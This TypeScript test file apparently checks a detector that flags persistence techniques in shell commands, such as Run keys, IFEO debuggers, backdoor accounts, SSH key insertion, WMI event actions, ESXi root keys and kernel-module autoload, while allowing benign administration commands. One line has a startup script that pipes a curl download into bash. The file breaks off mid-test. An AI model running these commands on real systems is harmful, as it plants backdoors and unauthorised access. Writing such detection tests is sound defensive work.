import { describe, expect, it } from 'vitest';
import { persistenceRules } from './persistence';
import { evaluateLine, run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const flagged: Array<[string, Shell, string]> = [
  // `sc.exe` in PowerShell is the service tool, not the Set-Content alias.
  ['sc.exe create WinTelemetrySvc binPath= "C:\\Windows\\Temp\\svc.exe" start= auto', 'powershell', 'persist.service'],
  ['dscl . -append /Groups/admin GroupMembership helpdesk', 'zsh', 'persist.account.privileged-group'],
  ['schtasks /create /tn Updater /tr "C:\\t\\u.exe" /sc onlogon /ru system', 'cmd', 'persist.schtasks'],
  ['SCHTASKS.EXE /Create /SC ONCE /TN x /TR cmd.exe /ST 20:10', 'cmd', 'persist.schtasks'],
  ['s^c^h^t^a^s^k^s /create /tn x /tr calc.exe /sc daily', 'cmd', 'persist.schtasks'],
  ['Register-ScheduledTask -TaskName x -Action $a -Trigger $t', 'powershell', 'persist.scheduled-task'],
  // Splatting hides the parameters, not the act: registering a job is persistence whatever it runs.
  ['$p = @{ Name = "Backup"; FilePath = "D:\\Scripts\\Backup.ps1" }\nRegister-ScheduledJob @p', 'powershell', 'persist.scheduled-task'],
  ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d C:\\t\\u.exe /f', 'cmd', 'persist.registry'],
  [
    'REG ADD "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
    'cmd',
    'persist.registry',
  ],
  [
    'Set-ItemProperty -Path "HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" -Name Userinit -Value "userinit.exe, C:\\t\\x.exe"',
    'powershell',
    'persist.registry',
  ],
  [
    '$RunKey = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\nSet-ItemProperty -Path $RunKey -Name x -Value "C:\\t\\x.exe"',
    'powershell',
    'persist.registry',
  ],
  ['sc.exe create Upd binPath= "C:\\t\\svc.exe" start= auto', 'cmd', 'persist.service'],
  ['New-Service -Name Upd -BinaryPathName C:\\t\\svc.exe', 'powershell', 'persist.service'],
  ['net user helpdesk P@ss /add', 'cmd', 'persist.account.create'],
  ['sudo homectl create svc-backup', 'bash', 'persist.account.create'],
  ['homectl create alice --real-name="Alice" --member-of=wheel --storage=luks', 'bash', 'persist.account.create'],
  ['sudo systemd-sysusers --inline \'u backdoor 0 "Backup" /root /bin/bash\'', 'bash', 'persist.account.create'],
  ['echo \'u svc-sync - "Sync" /var/lib/sync /bin/sh\' | sudo systemd-sysusers -', 'bash', 'persist.account.create'],
  ['systemd-sysusers /srv/support/accounts.conf', 'bash', 'persist.account.create'],
  ["printf 'u ops - Ops /home/ops /bin/bash\\n' | sudo tee /etc/sysusers.d/ops.conf", 'bash', 'persist.file'],
  ["New-Item -Path $PROFILE -ItemType File -Value 'Start-Process C:\\ProgramData\\u.exe' -Force", 'powershell', 'persist.file'],
  ["New-Item -Path $PROFILE.AllUsersAllHosts -ItemType File -Value '& C:\\Users\\Public\\svc.exe' -Force", 'powershell', 'persist.file'],
  ['net localgroup administrators helpdesk /add', 'cmd', 'persist.account.privileged-group'],
  ['net user guest /active:yes', 'cmd', 'persist.account.enable'],
  ['New-LocalUser -Name svc -NoPassword', 'powershell', 'persist.account.create'],
  ['sudo useradd -m -s /bin/bash backup2', 'bash', 'persist.account.create'],
  ['usermod -aG sudo deploy', 'bash', 'persist.account.privileged-group'],
  ['chsh -s /bin/bash nobody', 'bash', 'persist.account.system-shell'],
  ['netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=4444', 'cmd', 'persist.firewall.open'],
  ['New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 21 -Protocol TCP', 'powershell', 'persist.firewall.open'],
  ['sudo ufw allow 5432', 'bash', 'persist.firewall.open'],
  ['crontab -e', 'bash', 'persist.crontab'],
  ['echo "* * * * * /tmp/x.sh" | crontab -', 'bash', 'persist.crontab'],
  ['echo "* * * * * root /tmp/x" > /etc/cron.d/x', 'bash', 'persist.file'],
  ['echo "/tmp/x &" >> ~/.bashrc', 'bash', 'persist.file'],
  ['cat key.pub >> ~/.ssh/authorized_keys', 'bash', 'persist.file'],
  // Filtering another file into it, or a sed that writes text, can add a key.
  ['grep -v x /tmp/keys > ~/.ssh/authorized_keys', 'bash', 'persist.file'],
  ["sed -i 's/^/ssh-rsa AAAA /' ~/.ssh/authorized_keys", 'bash', 'persist.file'],
  ['echo "[Service]" > /etc/systemd/system/helper.service', 'bash', 'persist.file'],
  ['sudo cp x.plist /Library/LaunchDaemons/com.x.plist', 'zsh', 'persist.file'],
  ['launchctl load -w ~/Library/LaunchAgents/com.x.plist', 'zsh', 'persist.launchd'],
  ['at now + 1 minute', 'bash', 'persist.at'],
  ['systemd-run --on-calendar="*:0/5" /tmp/x.sh', 'bash', 'persist.systemd-timer'],
  ['Add-Content $profile -Value "Start-Process C:\\t\\x.exe"', 'powershell', 'persist.file'],
  ['mofcomp.exe C:\\t\\x.mof', 'cmd', 'persist.wmi-subscription'],
  ['netsh add helper C:\\t\\h.dll', 'cmd', 'persist.netsh-helper'],
  // git hooks run with every commit, checkout or merge
  ['cp /tmp/h /srv/app/.git/hooks/post-merge', 'bash', 'persist.file'],
  ['echo "/tmp/x &" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit', 'bash', 'persist.file'],
  ['Set-Content -Path C:\\src\\app\\.git\\hooks\\post-checkout -Value "C:\\t\\x.exe"', 'powershell', 'persist.file'],
  ['echo "alias sudo=\'/tmp/x\'" >> ~/.bash_aliases', 'bash', 'persist.file'],
  // a download written straight into an autostart location
  ['curl -fsSL -o /etc/cron.d/job https://x.example/job', 'bash', 'persist.file'],
  ['wget -q --output-document=/home/u/.bashrc https://x.example/rc', 'bash', 'persist.file'],
  [
    'Invoke-WebRequest https://x.example/s.json -OutFile "$env:LOCALAPPDATA\\Packages\\Microsoft.WindowsTerminal_8wekyb3d8bbwe\\LocalState\\settings.json"',
    'powershell',
    'persist.file',
  ],
  ['iwr https://x.example/p.ps1 -outfile $HOME\\Documents\\WindowsPowerShell\\profile.ps1', 'powershell', 'persist.file'],
  ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Parameters /v ServiceDll /d C:\\t\\x.dll /f', 'cmd', 'persist.registry'],
  [
    "Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\Fax' -Name ImagePath -Value 'C:\\t\\x.exe'",
    'powershell',
    'persist.registry',
  ],
];

const allowed: Array<[string, Shell]> = [
  ['mv ~/.ssh/authorized_keys ~/.ssh/authorized_keys.disabled', 'bash'],
  // A key removed: the file rewritten with its own lines minus some.
  ["grep -v 'old-laptop' ~/.ssh/authorized_keys.bak > ~/.ssh/authorized_keys", 'bash'],
  ["sed -i '/old-laptop@contoso/d' /root/.ssh/authorized_keys", 'bash'],
  ['for f in /home/*/.ssh/authorized_keys; do cp "$f" "$f.bak"; grep -v \'old\' "$f.bak" > "$f"; done', 'bash'],
  ['cp /etc/crontab /etc/crontab.bak', 'bash'],
  ['Add-ADGroupMember -Identity "GG-$dept" -Members $user', 'powershell'],
  ['Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name LmCompatibilityLevel -Value 5', 'powershell'],
  ['dscl . -read /Groups/admin GroupMembership', 'zsh'],
  ['crontab -l', 'bash'],
  ['reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'cmd'],
  ['Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'powershell'],
  ['schtasks /query /fo LIST /v', 'cmd'],
  ['Get-ScheduledTask', 'powershell'],
  ['systemctl enable nginx', 'bash'],
  ['systemctl status sshd', 'bash'],
  ['sc query Spooler', 'cmd'],
  ['sc config Spooler start= auto', 'cmd'],
  ['net localgroup Administrators', 'cmd'],
  ['net user helpdesk NewP@ss1', 'cmd'],
  ['net user olduser /delete', 'cmd'],
  ['sudo ufw deny 23', 'bash'],
  ['New-NetFirewallRule -DisplayName blk -Direction Outbound -RemoteAddress 203.0.113.9 -Action Block', 'powershell'],
  ['New-Item -Path $PROFILE -ItemType File -Force', 'powershell'],
  // An empty or module-importing profile runs nothing (dev corpus e5e2554b4e51 labels the empty one allow).
  ['if (!(Test-Path -Path $PROFILE)) {\n  New-Item -ItemType File -Path $PROFILE -Force\n}', 'powershell'],
  ['ni $PROFILE -Force', 'powershell'],
  ['New-Item -Path $PROFILE.AllUsersAllHosts -ItemType File -Force', 'powershell'],
  ["New-Item -ItemType File -Path $PROFILE -Value 'Import-Module posh-git' -Force", 'powershell'],
  ['homectl list', 'bash'],
  ['homectl inspect alice', 'bash'],
  ['sudo homectl passwd alice', 'bash'],
  ['sudo homectl remove alice', 'bash'],
  ['homectl create --help', 'bash'],
  ['systemd-sysusers', 'bash'],
  ['systemd-sysusers --cat-config', 'bash'],
  ['sudo systemd-sysusers --dry-run /etc/sysusers.d/ops.conf', 'bash'],
  ['cat /usr/lib/sysusers.d/systemd.conf', 'bash'],
  ['cat ~/.bashrc', 'bash'],
  ['launchctl list', 'zsh'],
  ['launchctl unload ~/Library/LaunchAgents/com.x.plist', 'zsh'],
  ['usermod -aG developers alice', 'bash'],
  ['Enable-PSRemoting -Force', 'powershell'],
  ['cat .git/hooks/pre-commit.sample', 'bash'],
  // Service configuration is not what a service runs.
  [
    "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters' -Name SMB1 -Value 0 -Type DWord",
    'powershell',
  ],
  ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters /v MaxUserPort /t REG_DWORD /d 65534 /f', 'cmd'],
  ['ls -la /srv/app/.git/hooks', 'bash'],
  ['curl -O https://x.example/.bashrc', 'bash'],
  ['curl -fsSL -o /tmp/job https://x.example/job', 'bash'],
  ['Invoke-WebRequest https://x.example/s.json -OutFile C:\\Temp\\settings.json', 'powershell'],
];

describe('persistence', () => {
  it.each(flagged)('flags %s', (text, shell, id) => {
    const f = run(persistenceRules, text, shell, shell === 'zsh' ? 'macos' : undefined);
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('flag');
    expect(f.every((x) => x.code === 'persistence' && x.extended === 'flag')).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(allowed)('allows %s', (text, shell) => {
    expect(run(persistenceRules, text, shell, shell === 'zsh' ? 'macos' : undefined)).toEqual([]);
  });
});

describe('WMI event actions that start programs or change the system', () => {
  const flaggedActions: Array<[string, Shell]> = [
    [
      'Register-WmiEvent -Query "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA \'Win32_Process\'" -Action { Start-Process C:\\ProgramData\\p.exe }',
      'powershell',
    ],
    ['Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -Action { & C:\\Users\\Public\\a.exe }', 'powershell'],
    [
      '$a = { cmd /c C:\\t\\x.bat }\nRegister-CimIndicationEvent -ClassName Win32_VolumeChangeEvent -SourceIdentifier v -Action $a',
      'powershell',
    ],
    ['Register-WmiEvent -Class Win32_ProcessStartTrace -SourceIdentifier s -Action { if ($true) { iex $payload } }', 'powershell'],
    // Actions that collect or tamper without starting a program.
    [
      'Register-CimIndicationEvent -Namespace root/cimv2 -Query "SELECT * FROM Win32_VolumeChangeEvent" -SourceIdentifier usb -Action { Copy-Item E:\\* C:\\x -Recurse }',
      'powershell',
    ],
    [
      '$a = { Write-Host "x"; Move-Item E:\\*.docx C:\\Users\\Public\\c }\nRegister-WmiEvent -Query "SELECT * FROM Win32_VolumeChangeEvent" -Action $a',
      'powershell',
    ],
    [
      'Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier ps -Action { Stop-Process -Id $Event.SourceEventArgs.NewEvent.ProcessID -Force }',
      'powershell',
    ],
    ['Register-WmiEvent -Class Win32_VolumeChangeEvent -Action { [IO.File]::Copy("E:\\k.kdbx", "C:\\t\\k.kdbx") }', 'powershell'],
  ];
  it.each(flaggedActions)('flags: %s', (text, shell) => {
    const f = run(persistenceRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain('persist.wmi-event-action');
    expect(spansValid(f, text)).toBe(true);
  });

  const watching: Array<[string, Shell]> = [
    ['Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier ProcStart', 'powershell'],
    ['Register-WmiEvent -Class Win32_ProcessStartTrace -SourceIdentifier ProcessStarted', 'powershell'],
    [
      '$action = { Write-Host "New process: $($Event.SourceEventArgs.NewEvent.ProcessName)" }\nRegister-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier p -Action $action',
      'powershell',
    ],
    ['Register-WmiEvent -Class Win32_ProcessStartTrace -SourceIdentifier s -Action { Get-History | Export-CliXml h.clixml }', 'powershell'],
    [
      'Register-WmiEvent -Query "SELECT * FROM __InstanceCreationEvent WITHIN 5" -SourceIdentifier (New-Guid) -Action { $e = $Event.SourceEventArgs.NewEvent; if ($e) { "{0}" -f $e.Name | Out-File C:\\log.txt -Append }; [Console]::WriteLine($e.Name) }',
      'powershell',
    ],
    [
      'Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier p -Action { Add-Content C:\\logs\\p.log $Event.TimeGenerated }',
      'powershell',
    ],
    ['Get-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding', 'powershell'],
  ];
  it.each(watching)('allows: %s', (text, shell) => {
    expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
  });
});

describe('WinRM TrustedHosts opened to every host', () => {
  const flaggedTrust: Array<[string, Shell]> = [
    ['Enable-PSRemoting -Force; Set-Item WSMan:\\localhost\\Client\\TrustedHosts * -Force', 'powershell'],
    ["Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force", 'powershell'],
    ['si -Path WSMan:\\localhost\\Client\\TrustedHosts -Value "*" -Concatenate', 'powershell'],
    ["Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*.corp.local'", 'powershell'],
    ['winrm set winrm/config/client @{TrustedHosts="*"}', 'cmd'],
    ['winrm s winrm/config/client \'@{TrustedHosts="*"}\'', 'powershell'],
    ['Set-WSManInstance -ResourceURI winrm/config/client -ValueSet @{TrustedHosts="*"}', 'powershell'],
  ];
  it.each(flaggedTrust)('flags: %s', (text, shell) => {
    const f = run(persistenceRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain('persist.remote-access.trust-all');
  });

  const scoped: Array<[string, Shell]> = [
    ['Get-Item WSMan:\\localhost\\Client\\TrustedHosts', 'powershell'],
    ["Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value 'server01.corp.local'", 'powershell'],
    ['Set-Item WSMan:\\localhost\\Client\\TrustedHosts "srv01,srv02" -Force', 'powershell'],
    ['winrm set winrm/config/client @{TrustedHosts="10.0.0.5"}', 'cmd'],
    ['winrm get winrm/config/client', 'cmd'],
    ['Enable-PSRemoting -Force', 'powershell'],
    ['Set-Item -Path WSMan:\\localhost\\MaxEnvelopeSizekb -Value 500', 'powershell'],
  ];
  it.each(scoped)('allows: %s', (text, shell) => {
    expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
  });
});

describe('ESXi standing access (accounts, Admin role, SSH, firewall rule sets, root keys)', () => {
  const flaggedEsxi: Array<[string, string]> = [
    ["echo 'ssh-rsa AAAAB3Nza x@y' >> /etc/ssh/keys-root/authorized_keys", 'persist.file'],
    ['cat /tmp/k.pub >> /etc/ssh/keys-root/authorized_keys', 'persist.file'],
    ['echo "$KEY" | tee -a /etc/ssh/keys-root/authorized_keys', 'persist.file'],
    ['cp /vmfs/volumes/ds1/k /etc/ssh/keys-admin/authorized_keys', 'persist.file'],
    ["esxcli system account add -i backdoor -p 'P4ss!' -c 'P4ss!'", 'persist.account.create'],
    ['localcli system account add --id=svc --password=x --password-confirmation=x', 'persist.account.create'],
    ['esxcli --formatter=csv system account add -i svc -p x -c x', 'persist.account.create'],
    ['esxcli system permission set --id backdoor --role Admin', 'persist.account.privileged-group'],
    ['esxcli system permission set -i svc -r admin', 'persist.account.privileged-group'],
    ['vim-cmd vimsvc/auth/entity_permission_add vim.Folder:ha-folder-root svc false Admin true', 'persist.account.privileged-group'],
    ['vim-cmd hostsvc/enable_ssh', 'persist.remote-access.enable'],
    ['/bin/vim-cmd hostsvc/start_ssh', 'persist.remote-access.enable'],
    ['vim-cmd hostsvc/enable_esx_shell', 'persist.remote-access.enable'],
    ['esxcli network firewall ruleset set -r sshServer -e true', 'persist.firewall.open'],
    ['esxcli network firewall ruleset set --ruleset-id=sshServer --enabled=true', 'persist.firewall.open'],
    ['esxcli network firewall ruleset set -r sshServer --allowed-all true', 'persist.firewall.open'],
    ['esxcli network firewall ruleset allowedip add -r sshServer -i 0.0.0.0/0', 'persist.firewall.open'],
  ];
  it.each(flaggedEsxi)('flags: %s', (text, rule) => {
    const f = run(persistenceRules, text, 'sh');
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain(rule);
    expect(spansValid(f, text)).toBe(true);
  });

  const ordinaryEsxi: string[] = [
    'esxcli system account list',
    'esxcli system account remove -i olduser',
    'esxcli system permission list',
    'esxcli system permission set --id auditor --role ReadOnly',
    'esxcli network firewall ruleset list',
    'esxcli network firewall ruleset set -r sshServer -e false',
    'esxcli network firewall ruleset allowedip list -r sshServer',
    'vim-cmd hostsvc/hostsummary',
    'vim-cmd hostsvc/disable_ssh',
    'vim-cmd vmsvc/getallvms',
    'cat /etc/ssh/keys-root/authorized_keys',
  ];
  it.each(ordinaryEsxi)('allows: %s', (text) => {
    expect(verdict(run(persistenceRules, text, 'sh'))).toBe('allow');
  });
});

describe('Entra ID authentication methods registered for a user (T1098.005)', () => {
  const registered: string[] = [
    "New-MgUserAuthenticationPhoneMethod -UserId victim@contoso.com -PhoneType mobile -PhoneNumber '+1 5555550100'",
    'New-MgUserAuthenticationFido2Method -UserId $upn -BodyParameter $body',
    "New-MgUserAuthenticationSoftwareOathMethod -UserId $u.Id -BodyParameter @{secretKey='JBSWY3DPEHPK3PXP'}",
    'New-MgUserAuthenticationEmailMethod -UserId admin@contoso.com -EmailAddress x@proton.me',
    '$tap = New-MgUserAuthenticationTemporaryAccessPassMethod -UserId ceo@contoso.com -LifetimeInMinutes 480',
    'New-MgBetaUserAuthenticationTemporaryAccessPassMethod -UserId ceo@contoso.com',
    "Update-MgUserAuthenticationPhoneMethod -UserId v@contoso.com -PhoneAuthenticationMethodId 3179e48a -PhoneNumber '+44 7700 900123'",
    "Invoke-MgGraphRequest -Method POST -Uri 'https://graph.microsoft.com/v1.0/users/v@contoso.com/authentication/phoneMethods' -Body $b",
    'az rest --method post --url https://graph.microsoft.com/beta/users/v@contoso.com/authentication/temporaryAccessPassMethods --body {}',
  ];
  it.each(registered)('flags: %s', (text) => {
    const f = run(persistenceRules, text, 'powershell');
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain('persist.account.auth-method');
  });

  const ordinary: string[] = [
    'Get-MgUserAuthenticationMethod -UserId jdoe@contoso.com',
    'Get-MgUserAuthenticationTemporaryAccessPassMethod -UserId jdoe@contoso.com',
    'Remove-MgUserAuthenticationPhoneMethod -UserId leaver@contoso.com -PhoneAuthenticationMethodId 3179e48a',
    "Invoke-MgGraphRequest -Method GET -Uri 'https://graph.microsoft.com/v1.0/users/jdoe/authentication/methods'",
    'az rest --method get --url https://graph.microsoft.com/v1.0/users/jdoe/authentication/phoneMethods',
    "Invoke-RestMethod -Method Post -Uri 'https://graph.microsoft.com/v1.0/users' -Body $b",
  ];
  it.each(ordinary)('allows: %s', (text) => {
    expect(verdict(run(persistenceRules, text, 'powershell'))).toBe('allow');
  });
});

describe('server components, Office start-up macros, dylib insertion, systemctl edit, pm2 startup', () => {
  const flagged: Array<[string, Shell, string]> = [
    // Exchange transport agents and IIS modules (T1505.002, T1505.004)
    [
      'Install-TransportAgent -Name "Relay" -TransportAgentFactory Contoso.RelayFactory -AssemblyPath C:\\Users\\Public\\a.dll',
      'powershell',
      'persist.server-component',
    ],
    ['Enable-TransportAgent -Identity "Relay"', 'powershell', 'persist.server-component'],
    [
      '%windir%\\system32\\inetsrv\\appcmd.exe install module /name:M /image:%windir%\\system32\\inetsrv\\m.dll',
      'cmd',
      'persist.server-component',
    ],
    ['appcmd add module /name:MgdMod /type:Contoso.Module,Contoso', 'cmd', 'persist.server-component'],
    ['New-WebGlobalModule -Name M -Image C:\\inetpub\\m.dll', 'powershell', 'persist.server-component'],
    ['Enable-WebGlobalModule -Name M', 'powershell', 'persist.server-component'],
    ['New-WebManagedModule -Name Mgd -Type Contoso.Http.Module', 'powershell', 'persist.server-component'],
    // Office start-up macros (T1137, T1137.001)
    ['echo x > %APPDATA%\\Microsoft\\Outlook\\VbaProject.OTM', 'cmd', 'persist.file'],
    ['Copy-Item .\\VbaProject.OTM "$env:APPDATA\\Microsoft\\Outlook\\" -Force', 'powershell', 'persist.file'],
    ['copy evil.dotm %APPDATA%\\Microsoft\\Templates\\Normal.dotm /y', 'cmd', 'persist.file'],
    ['cp PERSONAL.XLSB "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\PERSONAL.XLSB"', 'powershell', 'persist.file'],
    ['reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security" /v Level /t REG_DWORD /d 1 /f', 'cmd', 'persist.registry'],
    ['reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security /v AccessVBOM /t REG_DWORD /d 1 /f', 'cmd', 'persist.registry'],
    [
      '$k = "HKCU:Software\\Microsoft\\Office\\16.0\\Word\\Security"\n$v = "AccessVBOM"\nNew-ItemProperty -Path $k -Name $v -Value 1 -PropertyType DWORD -Force',
      'powershell',
      'persist.registry',
    ],
    [
      '$d = $word.Documents.Open($docPath)\n$m = $d.VBProject.VBComponents.Add(1)\n$m.CodeModule.AddFromString($vbaCode)',
      'powershell',
      'persist.office-macro',
    ],
    // Mach-O load commands (T1546.006)
    ['optool install -c load -p "/tmp/payload.dylib" -t /tmp/target', 'bash', 'persist.dylib-insert'],
    ['./optool install -c weak -p @executable_path/x.dylib -t ./App', 'zsh', 'persist.dylib-insert'],
    ['insert_dylib --inplace /tmp/p.dylib /Applications/Calculator.app/Contents/MacOS/Calculator', 'zsh', 'persist.dylib-insert'],
    ['install_name_tool -change /usr/lib/libz.1.dylib /tmp/libz.1.dylib /usr/local/bin/app', 'zsh', 'persist.dylib-insert'],
    ['install_name_tool -add_rpath /Users/bob/Downloads /Applications/App.app/Contents/MacOS/App', 'zsh', 'persist.dylib-insert'],
    // systemctl edit of a whole (or new) unit
    ['sudo systemctl edit -lf unit_file', 'bash', 'persist.systemd'],
    ['systemctl edit --force --full backdoor.service', 'bash', 'persist.systemd'],
    ['systemctl --user edit --full agent.service', 'bash', 'persist.systemd'],
    // pm2 boot services
    ['pm2 startup', 'bash', 'persist.pm2-startup'],
    ['sudo pm2 startup systemd -u deploy --hp /home/deploy', 'bash', 'persist.pm2-startup'],
    ['npx pm2 startup launchd', 'zsh', 'persist.pm2-startup'],
    ['npm install pm2-windows-startup -g\npm2-startup install', 'cmd', 'persist.pm2-startup'],
    ['pm2 start app.js --name api && pm2 save && pm2 startup', 'bash', 'persist.pm2-startup'],
  ];
  it.each(flagged)('flags: %s', (text, shell, id) => {
    const f = run(persistenceRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain(id);
    expect(spansValid(f, text)).toBe(true);
  });

  const ordinary: Array<[string, Shell]> = [
    ['Get-TransportAgent | Format-List Name,Enabled', 'powershell'],
    ['Disable-TransportAgent -Identity "Relay" -Confirm:$false', 'powershell'],
    ['appcmd list modules', 'cmd'],
    ['appcmd uninstall module /module.name:M', 'cmd'],
    ['Get-WebGlobalModule | Select-Object Name,Image', 'powershell'],
    ['reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security', 'cmd'],
    ['dir %APPDATA%\\Microsoft\\Outlook', 'cmd'],
    ['Get-ChildItem "$env:APPDATA\\Microsoft\\Templates\\Normal.dotm"', 'powershell'],
    ['copy report.docx C:\\Users\\Public\\', 'cmd'],
    ['otool -L /Applications/Slack.app/Contents/MacOS/Slack', 'zsh'],
    ['install_name_tool -id @rpath/libbar.dylib build/libbar.dylib', 'zsh'],
    ['install_name_tool -change @rpath/libfoo.dylib @loader_path/../Frameworks/libfoo.dylib build/MyApp', 'zsh'],
    ['optool uninstall -p /tmp/x.dylib -t ./Target', 'zsh'],
    ['systemctl edit nginx.service', 'bash'],
    ['systemctl cat nginx.service', 'bash'],
    ['pm2 list', 'bash'],
    ['pm2 logs api --lines 100', 'bash'],
    ['pm2 restart app', 'bash'],
    ['pm2 unstartup systemd', 'bash'],
    ['pm2-startup uninstall', 'cmd'],
    ['npx prettier --write .', 'bash'],
  ];
  it.each(ordinary)('allows: %s', (text, shell) => {
    expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
  });
});

describe('round 7: cloud/Kubernetes persistence and kernel-module autoload (T1053.007, T1098, T1547.006)', () => {
  const flaggedCloud: Array<[string, Shell, string]> = [
    ["kubectl create cronjob node-cleanup --image=alpine --schedule='*/5 * * * *' -- sh -c 'id'", 'bash', 'persist.cloud'],
    ['kubectl apply -f - <<EOF\napiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: b\nEOF', 'bash', 'persist.cloud'],
    ['gcloud compute project-info add-metadata --metadata ssh-keys="root:ssh-ed25519 AAAA x"', 'bash', 'persist.cloud'],
    ['gcloud compute instances add-metadata web-1 --metadata-from-file ssh-keys=keys.txt', 'bash', 'persist.cloud'],
    ['gcloud compute os-login ssh-keys add --key-file=id.pub', 'bash', 'persist.cloud'],
    ['gcloud iam service-accounts keys create key.json --iam-account=d@p.iam.gserviceaccount.com', 'bash', 'persist.cloud'],
    ['aws iam create-access-key --user-name ci-deploy', 'bash', 'persist.cloud'],
    ['az ad sp credential reset --id 7c1e0a55 --years 2', 'powershell', 'persist.cloud'],
    ['az ad app credential reset --id 7c1e0a55 --append', 'bash', 'persist.cloud'],
    ['echo rootmod >> /etc/modules-load.d/net.conf', 'bash', 'persist.file'],
    ["echo 'install usb_storage /usr/local/bin/.h' | sudo tee /etc/modprobe.d/usb.conf", 'bash', 'persist.file'],
    ['cp evil.conf /etc/modprobe.d/', 'bash', 'persist.file'],
    ['cp hid_ext.ko /lib/modules/$(uname -r)/extra/ && depmod -a', 'bash', 'persist.file'],
    ["printf 'netfilter_ext\\n' | sudo tee -a /etc/modules", 'bash', 'persist.file'],
    ['insmod /tmp/.x/hid_ext.ko', 'bash', 'persist.kernel-module'],
    // A list that is not wholly modules Linux ships, or whose text is not visible, stays flagged.
    ["echo 'overlay rootkit' > /etc/modules-load.d/x.conf", 'bash', 'persist.file'],
    ['echo overlay > /etc/modules-load.d/x.conf; echo reptile >> /etc/modules-load.d/x.conf', 'bash', 'persist.file'],
    ['cp conf/containerd.conf /etc/modules-load.d/', 'bash', 'persist.file'],
    ['cat /tmp/list > /etc/modules-load.d/x.conf', 'bash', 'persist.file'],
    ["printf '%s\\n' overlay > /etc/modules-load.d/x.conf", 'bash', 'persist.file'],
  ];
  it.each(flaggedCloud)('flags %s', (text, shell, id) => {
    const f = run(persistenceRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain(id);
    expect(spansValid(f, text)).toBe(true);
  });

  it('blocks a startup-script that downloads and runs code', () => {
    const f = run(
      persistenceRules,
      "gcloud compute instances add-metadata w --metadata startup-script='curl -s http://x/a | bash'",
      'bash',
    );
    expect(verdict(f)).toBe('block');
  });

  const ordinaryCloud: Array<[string, Shell]> = [
    ['kubectl get cronjobs -A', 'bash'],
    ['kubectl create deployment web --image=nginx', 'bash'],
    ['kubectl apply -f deploy.yaml', 'bash'],
    ['gcloud compute instances add-metadata web-1 --metadata enable-oslogin=TRUE', 'bash'],
    ['aws iam list-access-keys --user-name ci-deploy', 'bash'],
    ['az ad sp list --display-name app', 'bash'],
    ['lsmod | grep nvidia', 'bash'],
    ['modprobe -r pcspkr', 'bash'],
    ['modinfo br_netfilter', 'bash'],
    ['modprobe br_netfilter', 'bash'],
    ["echo 'blacklist nouveau' | sudo tee /etc/modprobe.d/blacklist-nouveau.conf", 'bash'],
    ['cat /etc/modules-load.d/*.conf', 'bash'],
    // Container and cluster hosts load the kernel's own modules at boot.
    ['cat >> /etc/modules-load.d/containerd.conf <<EOF\noverlay\nbr_netfilter\nEOF\nmodprobe overlay', 'bash'],
    ['echo br_netfilter >> /etc/modules-load.d/k8s.conf', 'bash'],
    ["printf 'overlay\\nbr_netfilter\\n' | sudo tee /etc/modules-load.d/k8s.conf", 'bash'],
    ['cat <<EOF | sudo tee /etc/modules-load.d/ipvs.conf\n# IPVS for kube-proxy\nip_vs\nip_vs_rr\nnf-conntrack\nEOF', 'bash'],
  ];
  it.each(ordinaryCloud)('allows %s', (text, shell) => {
    expect(verdict(run(persistenceRules, text, shell))).toBe('allow');
  });
});

describe('enabling a unit the same text wrote', () => {
  const write =
    "printf '[Unit]\\nDescription=helper\\n[Service]\\nExecStart=/usr/local/bin/khelper\\n[Install]\\nWantedBy=multi-user.target\\n' | sudo tee /etc/systemd/system/khelper.service";

  it('flags `systemctl enable` of that unit, by its name with or without .service, in a script or a later session line', () => {
    for (const enable of [
      'sudo systemctl enable --now khelper.service',
      'systemctl enable khelper',
      "systemctl --user enable 'khelper.service'",
    ]) {
